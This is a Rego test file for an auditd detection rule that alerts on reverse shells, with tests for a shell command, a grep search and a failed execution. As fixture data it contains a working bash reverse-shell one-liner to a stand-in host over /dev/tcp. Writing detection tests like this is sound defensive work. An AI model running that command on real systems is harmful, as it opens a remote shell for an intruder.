package auditd.reverse_shell_test

import data.auditd.reverse_shell

test_a_shell_on_the_network_is_told if count(reverse_shell.alert) == 1 with input as ran("/usr/bin/bash", "bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1")

test_a_search_for_it_is_not_told if count(reverse_shell.alert) == 0 with input as ran("/usr/bin/grep", "grep -r /dev/tcp/198.51.100.7/4444 .")

test_a_failed_execution_is_not_told if {
	count(reverse_shell.alert) == 0 with input as json.patch(
		ran("/usr/bin/bash", "bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"),
		[{"op": "replace", "path": "/auditd/syscall/success", "value": "no"}],
	)
}

ran(exe, command) := {"auditd": {
	"node": "web-1",
	"syscall": {"name": "execve", "success": "yes", "exe": exe},
	"execve": {"command": command},
}}
